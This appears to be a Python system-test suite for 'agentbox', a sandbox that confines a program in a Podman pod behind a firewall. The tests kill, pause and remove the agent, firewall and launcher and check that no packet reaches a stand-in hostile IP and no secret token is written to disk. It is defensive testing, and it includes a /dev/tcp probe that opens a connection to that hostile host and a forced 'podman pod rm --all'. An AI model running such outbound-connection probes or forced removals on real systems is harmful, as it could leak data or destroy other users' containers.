# SPDX-License-Identifier: Apache-2.0
"""Boxes that are attacked from outside, or that race with their own firewall: whichever part is attacked, and whenever, no
packet leaves and nothing is left behind. Each box runs a program that sends continuously."""
import contextlib
import json
import os
import pathlib
import shutil
import signal
import subprocess
import time

import box
import rig
from box import PATIENCE, SystemTest, podman, processes, wait_until

EVIL = "198.51.100.10"


class LifecycleAttack(SystemTest):
    def setUp(self):
        super().setUp()
        shutil.copy(rig.PROBES / "probe_race", self.workspace / "race")
        self.internet = box.Internet()

    def assert_nothing_left_the_box(self):
        escaped = [packet for packet in self.internet.packets() if packet["to"] == EVIL or rig.MARKER in packet["data"]]
        self.assertEqual(escaped, [], "packets left the box")

    def attacked(self, *options):
        """A box whose program sends to the hostile host until it ends."""
        launcher = self.start("run", *options, "--", "./race", "running")
        wait_until(lambda: (self.workspace / "running").exists() or launcher.poll() is not None, "the box runs")
        self.assertIsNone(launcher.poll(), "the box ended early")
        return launcher

    def container(self, part):
        return podman("ps", "--all", "--filter", f"name=-{part}$", "--format", "{{.Names}}")[0]

    def end(self, launcher):
        if launcher.poll() is None:
            launcher.terminate()
        launcher.wait(PATIENCE)
        self.assertCode(self.agentbox("run", "--", "true"), 0)  # cleans up after a launcher that was killed
        self.assert_gone()


class Race(LifecycleAttack):
    LAUNCHES = 50

    def test_fifty_launches_race_from_the_first_instruction(self):
        """Two at a time, each in its own workspace, so that one box runs while another is torn down."""
        places = [self.workspace, self.workspace.parent / (self.workspace.name + "-second")]
        shutil.copytree(*places)
        self.addCleanup(shutil.rmtree, places[1])
        running = {}
        for number in range(self.LAUNCHES + 2):
            place = places[number % 2]
            if place in running:
                done = running.pop(place)
                _, err = done.communicate(timeout=PATIENCE)
                self.assertEqual(done.returncode, 0, err)
            if number < self.LAUNCHES:
                running[place] = subprocess.Popen([box.AGENTBOX, "run", "--", "./race"], cwd=place, stdin=subprocess.DEVNULL,
                                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
                self.addCleanup(self._end, running[place])
        self.assert_nothing_left_the_box()

    def test_the_same_race_arrives_without_a_firewall(self):
        self.agentbox("run", "--full-network", "--", "./race")
        wait_until(lambda: any(packet["to"] == EVIL for packet in self.internet.packets()), "a packet arrives")


class Podman(LifecycleAttack):
    """What Podman can do to a running box behind agentbox's back. After each action the box is as closed as before."""

    def attack(self, *command, part=None, again=None):
        launcher = self.attacked()
        target = self.container(part) if part else podman("pod", "ps", "--format", "{{.Name}}")[0]
        for words in filter(None, (command, again)):
            done = subprocess.run(["podman", *words, target], capture_output=True, text=True, timeout=PATIENCE, check=False)
            halts = "without a cgroup" not in done.stderr  # processes cannot be stopped there
            if words is command and done.returncode != 0 and halts:
                # It may fail only where it ended the agent, and came too late for the rest of the box.
                with self.subTest("the attack failed", error=done.stderr):
                    launcher.wait(PATIENCE)
            time.sleep(0.1)  # gives packets time to leave, if they can
        probe = ["podman", "exec", self.name_of_agent(), "bash", "-c", f"exec 3<>/dev/tcp/{EVIL}/443 && echo open"]
        done = subprocess.run(probe, capture_output=True, text=True, timeout=PATIENCE, check=False)
        self.assertNotIn("open", done.stdout)
        self.end(launcher)
        self.assert_nothing_left_the_box()

    def name_of_agent(self):
        names = podman("ps", "--all", "--filter", "name=-agent$", "--format", "{{.Names}}")
        return names[0] if names else "gone"

    def test_the_agent_is_killed(self):
        self.attack("kill", part="agent")

    def test_the_agent_is_stopped(self):
        self.attack("stop", "--time", "0", part="agent")

    def test_the_agent_is_restarted(self):
        self.attack("restart", "--time", "0", part="agent")

    def test_the_agent_is_paused_and_continues(self):
        self.attack("pause", part="agent", again=("unpause",))

    def test_the_agent_is_removed(self):
        self.attack("rm", "--force", "--time", "0", part="agent")

    def test_the_agent_is_killed_and_started(self):
        self.attack("kill", part="agent", again=("start",))

    def test_the_firewall_is_killed(self):
        self.attack("kill", part="firewall")

    def test_the_firewall_is_stopped(self):
        self.attack("stop", "--time", "0", part="firewall")

    def test_the_firewall_is_restarted(self):
        self.attack("restart", "--time", "0", part="firewall")

    def test_the_firewall_is_killed_and_started(self):
        self.attack("kill", part="firewall", again=("start",))

    def test_the_firewall_is_paused(self):
        self.attack("pause", part="firewall", again=("unpause",))

    def test_the_pod_is_killed(self):
        self.attack("pod", "kill")

    def test_the_pod_is_stopped(self):
        self.attack("pod", "stop", "--time", "0")

    def test_the_pod_is_restarted(self):
        self.attack("pod", "restart")

    def test_the_pod_is_stopped_and_started(self):
        self.attack("pod", "stop", "--time", "0", again=("pod", "start"))

    def test_the_pod_is_paused(self):
        self.attack("pod", "pause", again=("pod", "unpause"))

    def test_the_pod_is_removed(self):
        self.attack("pod", "rm", "--force", "--time", "0")


class Processes(LifecycleAttack):
    """Signals to the processes of a box."""

    def pids(self, *names):
        return [pid for pid, line in processes().items() if pathlib.PurePath(line.split()[0]).name in names]

    def attack(self, number, *names):
        launcher = self.attacked()
        pids = self.pids(*names)
        self.assertTrue(pids, "no process to attack")
        for pid in pids:
            with contextlib.suppress(ProcessLookupError, PermissionError):
                os.kill(pid, number)
        time.sleep(0.2)
        if number == signal.SIGSTOP:
            for pid in self.pids(*names):
                with contextlib.suppress(ProcessLookupError, PermissionError):
                    os.kill(pid, signal.SIGCONT)
        self.end(launcher)
        self.assert_nothing_left_the_box()

    def test_the_firewalls_process_is_killed(self):
        self.attack(signal.SIGKILL, "agentbox-firewall")

    def test_the_firewalls_process_is_halted(self):
        self.attack(signal.SIGSTOP, "agentbox-firewall")

    def test_the_launcher_is_killed(self):
        self.attack(signal.SIGKILL, "agentbox")

    def test_the_launcher_is_halted(self):
        self.attack(signal.SIGSTOP, "agentbox")

    def test_the_monitors_are_killed(self):
        self.attack(signal.SIGKILL, "conmon")

    def test_the_network_program_is_killed(self):
        self.attack(signal.SIGKILL, "slirp4netns", "pasta", "pasta.avx2")

    def test_everything_is_killed(self):
        self.attack(signal.SIGKILL, "agentbox", "agentbox-firewall", "conmon", "slirp4netns", "pasta", "pasta.avx2", "agent-entrypoint")


class Steps(LifecycleAttack):
    """The launcher dies, fails, or finds its pod gone, before each step of its plan and of its teardown."""
    VALUE = "s3cr3t-" + "4711" * 8
    SECRET = ("--env", f"API_TOKEN={VALUE}")

    def setUp(self):
        super().setUp()
        prefix = pathlib.Path(box.AGENTBOX).resolve().parent.parent
        self.program = self.workspace.parent / (self.workspace.name + "-faults")
        (self.program / "bin").mkdir(parents=True)
        self.addCleanup(shutil.rmtree, self.program)
        shutil.copy(rig.PROBES / "probe_faults", self.program / "bin" / "agentbox")
        for directory in ("libexec", "share"):
            (self.program / directory).symlink_to(prefix / directory)

    def run_with(self, fault, command=("./race",)):
        return subprocess.run([self.program / "bin" / "agentbox", "run", *self.SECRET, "--", *command], cwd=self.workspace,
                              env=self.environment(AGENTBOX_FAULT=fault), capture_output=True, text=True,
                              stdin=subprocess.DEVNULL, timeout=PATIENCE, check=False)

    def number_of_steps(self, phase):
        plan = self.agentbox("run", "--dry-run", "--json", *self.SECRET, "--", "./race")
        self.assertNotIn(self.VALUE, plan.out)
        return len(json.loads(plan.out)[phase])

    def at_each(self, phase, what, judge):
        count = self.number_of_steps(phase)
        self.assertGreaterEqual(count, 3)
        for number in range(count):
            with self.subTest(step=number):
                judge(self.run_with(f"{phase}:{number}:{what}"), number)

    def assert_value_is_in_no_file(self):
        """Podman's own files are excepted: the container has the value in its environment."""
        found = subprocess.run(["find", box.SESSIONS.parent, box.HOME, self.workspace, "/tmp", "-name", "containers", "-prune", "-o",
                                "-type", "f", "-user", str(os.getuid()), "-size", "-4M", "-exec",
                                "grep", "--files-with-matches", "--fixed-strings", self.VALUE, "{}", "+"],
                               check=False, capture_output=True, text=True)
        self.assertEqual(found.stdout, "")

    def test_without_a_fault_it_is_agentbox(self):
        done = self.run_with("", ("sh", "-c", "./race && echo value: $API_TOKEN"))
        self.assertIn(f"value: {self.VALUE}", done.stdout)
        (self.workspace / "leak").write_text(self.VALUE, encoding="ascii")
        with self.assertRaises(AssertionError):  # it would be found
            self.assert_value_is_in_no_file()
        (self.workspace / "leak").unlink()
        self.assertEqual((done.returncode, done.stderr.count("error")), (0, 0), done.stderr)
        self.assert_nothing_left_the_box()

    def test_killed_before_each_step(self):
        def judge(done, _):
            self.assertEqual(done.returncode, -signal.SIGKILL)
            self.assert_value_is_in_no_file()
            wait_until(lambda: not [line for line in processes().values() if "podman" in line], "its podman ends")
            self.assertCode(self.in_box("true"), 0)  # the next call cleans up
            self.assert_gone()
        self.at_each("steps", "kill", judge)
        self.assert_nothing_left_the_box()

    def test_killed_before_each_step_of_the_teardown(self):
        def judge(done, _):
            self.assertEqual(done.returncode, -signal.SIGKILL)
            self.assert_value_is_in_no_file()
            self.assertCode(self.in_box("true"), 0)
            self.assert_gone()
        self.at_each("teardown", "kill", judge)
        self.assert_nothing_left_the_box()

    def test_failing_at_each_step(self):
        def judge(done, _):
            self.assertEqual(done.returncode, 125, done.stderr)
            self.assertIn("made to fail", done.stderr)
            self.assert_gone()
        self.at_each("steps", "fail", judge)
        self.assert_nothing_left_the_box()

    def test_failing_at_each_step_of_the_teardown(self):
        def judge(done, _):
            self.assertIn("made to fail", done.stderr)
            self.assertCode(self.in_box("true"), 0)
            self.assert_gone()
        self.at_each("teardown", "fail", judge)
        self.assert_nothing_left_the_box()

    def test_the_pod_is_missing_before_each_step(self):
        def judge(done, _):
            self.assertIn(done.returncode, (0, 125, 126), done.stderr)
            self.assert_gone()
        self.at_each("steps", "podman pod rm --all --force --time 0 >/dev/null 2>&1", judge)
        self.assert_nothing_left_the_box()
